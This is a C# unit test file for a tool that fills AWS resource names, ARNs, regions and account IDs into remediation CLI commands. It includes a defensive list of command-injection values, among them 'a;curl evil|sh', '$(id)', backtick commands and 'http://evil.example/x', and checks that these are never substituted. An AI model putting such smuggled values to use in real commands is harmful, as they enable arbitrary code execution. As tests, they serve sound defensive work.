using Qrie.Aws;
using Qrie.Console.Parts;
using Qrie.Console.Tests.Fakes;
using Qrie.Inventory;
using Qrie.Policies;

namespace Qrie.Console.Tests.Parts;

public sealed class PlaceholdersTests
{
    private static readonly Dictionary<string, string> Arns = new()
    {
        ["AWS::Account"] = "arn:aws:account::111111111111:account",
        ["AWS::CloudTrail::Trail"] = "arn:aws:cloudtrail:eu-west-1:111111111111:trail/main",
        ["AWS::EC2::Image"] = "arn:aws:ec2:eu-west-1::image/ami-1",
        ["AWS::EC2::Instance"] = "arn:aws:ec2:eu-west-1:111111111111:instance/i-1",
        ["AWS::EC2::NetworkAcl"] = "arn:aws:ec2:eu-west-1:111111111111:network-acl/acl-1",
        ["AWS::EC2::RegionSettings"] = "arn:aws:ec2:eu-west-1:111111111111:settings",
        ["AWS::EC2::SecurityGroup"] = "arn:aws:ec2:eu-west-1:111111111111:security-group/sg-1",
        ["AWS::EC2::Snapshot"] = "arn:aws:ec2:eu-west-1::snapshot/snap-1",
        ["AWS::EC2::Subnet"] = "arn:aws:ec2:eu-west-1:111111111111:subnet/subnet-1",
        ["AWS::EC2::VPC"] = "arn:aws:ec2:eu-west-1:111111111111:vpc/vpc-1",
        ["AWS::EC2::Volume"] = "arn:aws:ec2:eu-west-1:111111111111:volume/vol-1",
        ["AWS::IAM::Group"] = "arn:aws:iam::111111111111:group/teams/core",
        ["AWS::IAM::ManagedPolicy"] = "arn:aws:iam::111111111111:policy/core",
        ["AWS::IAM::Role"] = "arn:aws:iam::111111111111:role/ci/deploy",
        ["AWS::IAM::User"] = "arn:aws:iam::111111111111:user/people/jo.doe+core@example.com",
        ["AWS::KMS::Key"] = "arn:aws:kms:eu-west-1:111111111111:key/1234abcd-12ab-34cd-56ef-1234567890ab",
        ["AWS::Lambda::Function"] = "arn:aws:lambda:eu-west-1:111111111111:function:resize",
        ["AWS::RDS::DBCluster"] = "arn:aws:rds:eu-west-1:111111111111:cluster:orders",
        ["AWS::RDS::DBClusterSnapshot"] = "arn:aws:rds:eu-west-1:111111111111:cluster-snapshot:orders-1",
        ["AWS::RDS::DBInstance"] = "arn:aws:rds:eu-west-1:111111111111:db:orders",
        ["AWS::RDS::DBSnapshot"] = "arn:aws:rds:eu-west-1:111111111111:snapshot:rds:orders-1",
        ["AWS::S3::Bucket"] = "arn:aws:s3:::logs.example.com",
        ["AWS::SNS::Topic"] = "arn:aws:sns:eu-west-1:111111111111:alarms",
        ["AWS::SQS::Queue"] = "arn:aws:sqs:eu-west-1:111111111111:jobs.fifo",
    };

    [Theory]
    [InlineData("AWS::S3::Bucket", "aws s3api x --bucket NAME --prefix 'NAME/'", "aws s3api x --bucket logs.example.com --prefix 'logs.example.com/'")]
    [InlineData("AWS::IAM::Role", "aws iam x --role-name NAME --by ACCOUNT", "aws iam x --role-name deploy --by 111111111111")]
    [InlineData("AWS::IAM::User", "aws iam x --user-name NAME", "aws iam x --user-name jo.doe+core@example.com")]
    [InlineData("AWS::EC2::Snapshot", "aws ec2 x --region REGION --snapshot-id ID", "aws ec2 x --region eu-west-1 --snapshot-id snap-1")]
    [InlineData("AWS::KMS::Key", "aws kms x --key-id ID", "aws kms x --key-id 1234abcd-12ab-34cd-56ef-1234567890ab")]
    [InlineData("AWS::RDS::DBSnapshot", "aws rds x --id ID --arn ARN", "aws rds x --id rds:orders-1 --arn arn:aws:rds:eu-west-1:111111111111:snapshot:rds:orders-1")]
    [InlineData("AWS::Lambda::Function", "aws lambda x --function-name NAME --layers LAYER", "aws lambda x --function-name resize --layers LAYER")]
    [InlineData("AWS::SQS::Queue", "aws sqs x --queue-name NAME", "aws sqs x --queue-name jobs.fifo")]
    [InlineData("AWS::CloudTrail::Trail", "aws cloudtrail x --name NAME", "aws cloudtrail x --name main")]
    [InlineData("AWS::S3::Bucket", "USERNAME NAMES MY_NAME NAME_1 ARN2 name", "USERNAME NAMES MY_NAME NAME_1 ARN2 name")]
    public void What_the_resource_is_called_is_filled_in_where_it_is_a_word_of_its_own(string type, string text, string filled) =>
        Placeholders.Fill(text, Of(type)).Should().Be(filled);

    [Theory]
    [InlineData("AWS::Account", "NAME ID")]
    [InlineData("AWS::EC2::RegionSettings", "NAME ID")]
    [InlineData("AWS::S3::Bucket", "REGION")]
    public void What_there_is_not_stays_for_the_reader(string type, string text) => Placeholders.Fill(text, Of(type)).Should().Be(text);

    [Fact]
    public void Without_a_finding_nothing_is_filled_in() => Placeholders.Fill("aws s3api x --bucket NAME", null).Should().Be("aws s3api x --bucket NAME");

    [Theory]
    [InlineData("a;curl evil|sh")]
    [InlineData("a$(id)")]
    [InlineData("a`id`")]
    [InlineData("a'&calc&'")]
    [InlineData("a\"")]
    [InlineData("a b")]
    [InlineData("a\nid")]
    [InlineData("a\n")]
    [InlineData("a\u001b[2J")]
    [InlineData("a\\")]
    [InlineData("--debug")]
    [InlineData("-")]
    [InlineData("a,Action=*")]
    [InlineData("a*")]
    [InlineData("%PATH%")]
    [InlineData("http://evil.example/x")]
    [InlineData("file://etc")]
    [InlineData("аdmin")]
    [InlineData("")]
    public void A_name_that_could_be_more_than_a_name_is_not_filled_in(string name)
    {
        const string Command = "aws iam delete-user --user-name NAME --tags '[\"NAME\"]'";
        var row = Of("AWS::SNS::Topic") with { Arn = $"arn:aws:sns:eu-west-1:111111111111:{name}" };

        Placeholders.Fill(Command, row).Should().Be(Command);
        Placeholders.Fill("--region REGION --account ACCOUNT", row with { Region = name, AccountId = name }).Should().Be("--region REGION --account ACCOUNT");
    }

    [Theory]
    [InlineData("a;curl evil|sh")]
    [InlineData("a' 'b")]
    public void An_arn_of_a_hostile_name_is_not_filled_in_either(string name) =>
        Placeholders.Fill("aws sns x --topic-arn ARN", Of("AWS::SNS::Topic") with { Arn = $"arn:aws:sns:eu-west-1:111111111111:{name}" }).Should().Be("aws sns x --topic-arn ARN");

    [Theory]
    [InlineData("aws ec2 x --security-group-rule-ids RULE", true)]
    [InlineData("aws cloudtrail x '[\"KEY/\"]'", true)]
    [InlineData("aws ec2 x --resource-type VPC --traffic-type ALL --type AWS::S3::Object --auth AWS_IAM --sse AES256", false)]
    public void What_is_left_to_fill_in_is_told_from_what_commands_take(string command, bool left) => Placeholders.AreIn(command).Should().Be(left);

    [Fact]
    public void A_finding_of_any_shipped_policy_knows_all_that_its_commands_say_of_its_resource()
    {
        var policies = new PolicyCatalogue(new ResourceTypes()).All;
        policies.Should().HaveCountGreaterThan(60);

        foreach (var policy in policies.Select(policy => policy.Definition))
        {
            var filled = string.Join(' ', policy.Remediation.Cli.Concat(policy.Remediation.Console).Select(text => Placeholders.Fill(text, Of(policy.ResourceType))));
            filled.Split([' ', '"', '\'', '/', '=', ',', ':']).Should().NotIntersectWith(["NAME", "ID", "ARN", "ACCOUNT", "REGION"], policy.Id);
        }
    }

    private static FindingRow Of(string type) => Samples.Row() with { Type = type, Arn = Arns[type], AccountId = "111111111111", Region = "eu-west-1" };
}
